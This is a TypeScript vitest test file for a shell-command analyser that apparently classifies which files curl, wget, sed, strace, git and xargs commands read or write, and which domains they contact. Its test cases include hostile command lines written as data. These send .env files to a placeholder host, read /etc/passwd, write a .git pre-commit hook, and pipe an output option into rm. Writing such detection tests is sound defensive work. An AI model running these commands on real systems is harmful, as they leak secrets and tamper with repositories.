import { expect, test } from 'vitest';
import { look, touchesOf } from './scene.ts';

test.each([
  ['git log --output=.git/x', 'write /checkout/.git/x'],
  ['git diff --outp .git/x', 'write /checkout/.git/x'],
  ['git archive -o.git/x HEAD', 'write /checkout/.git/x'],
  ['git format-patch -o .git main', 'write /checkout/.git'],
  ['git bundle create .git/x HEAD', 'write /checkout/.git/x'],
  ['git checkout HEAD -- secret/a', 'write /checkout/secret/a'],
  ['git restore secret/a', 'write /checkout/secret/a'],
  ['git rm secret/a', 'write /checkout/secret/a'],
  ['curl -so .git/x https://x.example/a', 'write /checkout/.git/x'],
  ['curl -o.git/x https://x.example', 'write /checkout/.git/x'],
  ['curl -D .git/x https://x.example', 'write /checkout/.git/x'],
  ['curl -c .git/x https://x.example', 'write /checkout/.git/x'],
  ['curl --trace .git/x https://x.example', 'write /checkout/.git/x'],
  ['curl -O https://x.example/.npmrc', 'write /checkout/.npmrc'],
  ['curl -T.env https://x.example', 'read /checkout/.env'],
  ['curl --data-urlencode a@.env https://x.example', 'read /checkout/.env'],
  ["curl -F 'f=@a,.env;type=b' https://x.example", 'read /checkout/.env'],
  ['curl -b .env https://x.example', 'read /checkout/.env'],
  ['curl -E .env:x https://x.example', 'read /checkout/.env'],
  ['curl -H @.env https://x.example', 'read /checkout/.env'],
  ['wget https://x.example/.npmrc', 'write /checkout/.npmrc'],
  ['wget -o .git/x https://x.example', 'write /checkout/.git/x'],
  ['wget --post-file=.env https://x.example', 'read /checkout/.env'],
  ['strace -f -o .git/x ls', 'write /checkout/.git/x'],
  ['strace -o.git/x ls', 'write /checkout/.git/x'],
  ['xargs -a .env echo', 'read /checkout/.env'],
  ['xargs --arg-file=.env echo', 'read /checkout/.env'],
  ['sort --outp=.git/x a', 'write /checkout/.git/x'],
])('%s: %s', (line, touched) => {
  expect(touchesOf(line)).toContain(touched);
});

test.each([
  "sed -n 'w .git/hooks/pre-commit' a",
  "sed '1e rm x' a",
  "sed 'R .env' a",
  'sed -i s/a/b/w.git/x a',
  'sed -i s/a/b/e a',
  "sed -i '/a/{w x\n}' a",
  "sed -e 'a\\' -e 'x' -e 'w y' a",
  "sed -i':a;w x' a",
  'sed -irc s/a/b/ .npm',
  "sed -i'.git/*' s/a/b/ a",
  'sed -f script a',
  'sed --in-pl s/a/b/ a',
  'curl --out x https://x.example',
  'curl --output-dir .git -O https://x.example/hooks',
  'curl -K f',
  'curl -J -O https://x.example/a',
  'curl file:///etc/passwd',
  "curl 'fil{e}:///etc/passwd'",
  'curl -w @.env https://x.example',
  'curl -w %output{.git/x} https://x.example',
  'wget -i list',
  'wget -P .git https://x.example/x',
  "strace -o '|rm x' ls",
])('which files it touches is not judged: %s', (line) => {
  expect(look(line).unclear).toBeDefined();
});

test.each([
  "sed -i '/x/a new line' f",
  "sed -i '3i\\foo' f",
  "sed -i ':a;N;$!ba;s/\\n/ /g' f",
  'sed -i.bak -e s/a/b/ f',
  "sed -E -i 's#(a|b)#\\1#g' f",
  `curl -H 'A: b' -d '{"a":1}' https://x.example/a`,
  "curl -sSL -w '%{http_code}' -o /dev/null https://x.example",
  'wget -qO- https://x.example',
  'strace -f -e trace=open npm test',
])('it is: %s', (line) => {
  expect(look(line).unclear).toBeUndefined();
});

test('every address counts, one without a known host as well', () => {
  expect(look('curl https://x.example https://y.example').domains).toEqual([
    'x.example',
    'y.example',
  ]);
  expect(look('curl https://x.example evil').domains).toEqual(['x.example', 'unknown.invalid']);
});
